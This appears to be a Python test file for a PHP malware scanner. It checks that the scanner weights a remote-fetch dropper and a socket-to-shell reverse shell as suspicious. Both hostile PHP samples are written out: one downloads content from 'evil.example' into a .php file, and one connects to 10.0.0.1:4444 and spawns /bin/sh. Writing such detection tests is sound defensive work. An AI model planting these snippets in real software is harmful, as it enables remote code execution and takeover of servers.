"""Droppers: writing fetched content to a .php name is the heavier form; a socket handed
to a shell is a reverse shell."""
from newfilewatch.detect.engine import Engine
from tests.support.families import php_family


def test_fetched_content_written_to_php_counts_more_than_to_data():
    eng = Engine()
    php = eng.analyse(b"<?php $d = file_get_contents('http://evil.example/x.txt');\n"
                      b"file_put_contents('x.php', $d);", 'w.php')
    data = eng.analyse(b"<?php $d = file_get_contents('http://feeds.example/x.xml');\n"
                       b"file_put_contents('cache/x.xml', $d);", 'w.php')
    assert sorted(h.weight for h in php.hits if h.rule == 'php.dropper.remote_write') == [5, 7]
    assert php.suspicious
    assert [h.weight for h in data.hits if h.rule == 'php.dropper.remote_write'] == [7]
    assert not data.suspicious


def test_a_socket_handed_to_a_shell_alone():
    found = php_family(b"<?php $s = fsockopen('10.0.0.1', 4444);\n"
                       b"proc_open('/bin/sh', array(0 => $s, 1 => $s, 2 => $s), $p);",
                       'sockets_and_droppers')
    assert found == {'php.revshell.socket_shell': [15]}
